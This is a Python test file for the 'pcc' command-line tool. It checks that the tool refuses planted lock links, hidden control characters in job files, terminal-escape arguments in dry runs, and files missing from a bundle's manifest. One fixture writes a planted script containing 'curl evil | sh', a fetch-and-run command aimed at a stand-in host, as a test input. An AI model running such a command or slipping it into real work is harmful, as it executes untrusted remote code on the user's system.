"""Issue 27's hostile inputs, round 3: running, launching and validating (docs/safety.md, "Round 3: running
and validating"). Each refusal is one coded line naming what the user gave; nothing is written through a
link, launched outside the manifest, fetched from another service, or shown other than it runs."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from pcc.cli import main

ROOT = Path(__file__).resolve().parents[1]
TINY = ROOT / "contracts" / "tiny_cpu.prec"
TINY_VERL = ROOT / "contracts" / "verl" / "tiny_cpu.prec"
RUN = ["run", str(TINY), "--steps", "1", "--no-plots"]


def _envelope(capsys, argv: list[str]) -> tuple[int, dict]:
    code = main(argv + ["--json"]) if "--" not in argv else main(
        argv[:argv.index("--")] + ["--json"] + argv[argv.index("--"):])
    return code, json.loads(capsys.readouterr().out)


def _errors(env: dict) -> list[dict]:
    return [d for d in env["diagnostics"] if d["severity"] == "error"]


@pytest.fixture(scope="module")
def bundles(tmp_path_factory):
    """A Miles bundle and a verl bundle of the tiny contract, compiled once; tests copy them before editing."""
    d = tmp_path_factory.mktemp("round3")
    assert main(["compile", str(TINY), "-o", str(d / "miles")]) == 0
    assert main(["compile", str(TINY_VERL), "-o", str(d / "verl")]) == 0
    return d


def _copy(bundles: Path, name: str, tmp_path: Path) -> Path:
    out = tmp_path / name
    shutil.copytree(bundles / name, out)
    return out


# -- 1. the run directory's lock: a link or a file pcc did not make is refused, its target untouched --------

def _symlink(lock: Path, target: Path) -> None:
    lock.symlink_to(target)


def _dangling(lock: Path, target: Path) -> None:
    target.unlink()
    lock.symlink_to(target)


def _hardlink(lock: Path, target: Path) -> None:
    os.link(target, lock)


@pytest.mark.parametrize("plant, why", [(_symlink, "a link where pcc run keeps the lock"),
                                        (_dangling, "a link where pcc run keeps the lock"),
                                        (_hardlink, "a file with 2 links")], ids=["symlink", "dangling", "hardlink"])
def test_a_planted_lock_is_refused_and_its_target_untouched(tmp_path, capsys, plant, why):
    target = tmp_path / "precious"
    target.write_text("precious\n")
    plant(tmp_path / ".r.pcc-lock", target)
    code, env = _envelope(capsys, RUN + ["--out", str(tmp_path / "r")])
    assert code == 1 and [e["code"] for e in _errors(env)] == ["PCC707"], env
    assert why in _errors(env)[0]["message"]
    assert not (tmp_path / "r").exists()
    if target.exists():
        assert target.read_text() == "precious\n"
    else:
        assert plant is _dangling  # a dangling link's target is never created


# -- 2. --out: a parent that is a file is named as given; --out . runs in an empty working directory ---------

def test_out_under_a_file_names_what_was_given(tmp_path, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    Path("afile").write_text("x")
    code, env = _envelope(capsys, RUN + ["--out", "afile/sub"])
    assert code == 1 and [e["code"] for e in _errors(env)] == ["PCC709"], env
    message = _errors(env)[0]["message"]
    assert message.startswith("afile/sub: ") and "afile is a file, not a folder" in message
    assert "pcc-lock" not in message


def test_out_dot_runs_in_an_empty_working_directory(tmp_path, capsys, monkeypatch):
    (tmp_path / "here").mkdir()
    monkeypatch.chdir(tmp_path / "here")
    code, env = _envelope(capsys, RUN + ["--out", "."])
    assert code == 0, _errors(env)
    assert (tmp_path / "here" / "run.json").is_file()
    assert not [p.name for p in (tmp_path / "here").iterdir() if "lock" in p.name]  # beside it, never inside
    assert (tmp_path / ".here.pcc-lock").is_file()


# -- 3. dry runs: every printed word shows what runs; job files hold printable text -------------------------

@pytest.mark.parametrize("char, named", [("\x1b", "U+001B"), ("\r", "line endings?"), ("\x00", "U+0000"),
                                         ("\u00a0", "NO-BREAK SPACE"), ("\u200b", "ZERO WIDTH SPACE")],
                         ids=["esc", "cr", "nul", "nbsp", "zwsp"])
@pytest.mark.parametrize("framework, line", [("miles", "--num-rollout 3{c}"), ("verl", "data.train_files=a{c}b")])
def test_a_job_file_with_a_hidden_character_is_refused_at_load(bundles, tmp_path, capsys, monkeypatch, char, named,
                                                              framework, line):
    job = tmp_path / "job"
    job.write_text("# the job\n" + line.format(c=char) + "\n")
    monkeypatch.setenv("PCC_MILES_JOB" if framework == "miles" else "PCC_VERL_JOB", str(job))
    code, env = _envelope(capsys, ["run", str(bundles / framework), "--target", framework, "--dry-run"])
    assert code == 1 and [e["code"] for e in _errors(env)] == ["PCC717"], env
    message = _errors(env)[0]["message"]
    assert f"{job}:2: " in message and named in message and char not in message


@pytest.mark.parametrize("framework, arg", [("miles", "--x=a\x1b[2Jb"), ("verl", "trainer.x=a\rb\u00a0c'd")])
def test_a_dry_run_escapes_what_a_terminal_would_not_show(bundles, capsys, monkeypatch, framework, arg):
    monkeypatch.delenv("PCC_MILES_JOB", raising=False)
    monkeypatch.delenv("PCC_VERL_JOB", raising=False)
    assert main(["run", str(bundles / framework), "--target", framework, "--dry-run", "--", arg]) == 0
    command = capsys.readouterr().out.rstrip("\n").split("\n")[-1]
    assert command.isprintable(), command  # no raw ESC, CR or no-break space reaches the terminal
    word = command.rsplit(" ", 1)[-1]
    assert word.startswith("$'")
    shell = subprocess.run(["bash", "-c", f"printf %s {word}"], capture_output=True, check=True)
    assert shell.stdout.decode() == arg  # pasted, the printed word is the argument that runs


# -- 4. a launch runs only what the bundle's manifest lists ------------------------------------------------

def _add_verl(bundle: Path, bundles: Path) -> None:
    shutil.copytree(bundles / "verl" / "verl", bundle / "verl")


def _add_miles(bundle: Path, bundles: Path) -> None:
    shutil.copytree(bundles / "miles" / "miles", bundle / "miles")


def _drop_file(bundle: Path, bundles: Path) -> None:
    (bundle / "miles" / "extra.sh").write_text("curl evil | sh\n")


@pytest.mark.parametrize("base, add, framework, text", [
    ("miles", _add_verl, "verl", "verl/launch.sh, verl/overrides.txt: not in its manifest"),
    ("verl", _add_miles, "miles", "miles/args.txt, miles/launch.sh, miles/model_args.txt, ...: not in its manifest"),
    ("miles", _drop_file, "miles", "miles/extra.sh: not in its manifest"),
], ids=["verl-folder-added", "miles-folder-added", "file-dropped-in"])
def test_a_launch_runs_only_what_the_manifest_lists(bundles, tmp_path, capsys, base, add, framework, text):
    bundle = _copy(bundles, base, tmp_path)
    add(bundle, bundles)
    code, env = _envelope(capsys, ["run", str(bundle), "--target", framework, "--dry-run"])
    assert code == 1 and [e["code"] for e in _errors(env)] == ["PCC706"], env
    assert text in _errors(env)[0]["message"]
    assert env.get("result") is None  # nothing printed to run
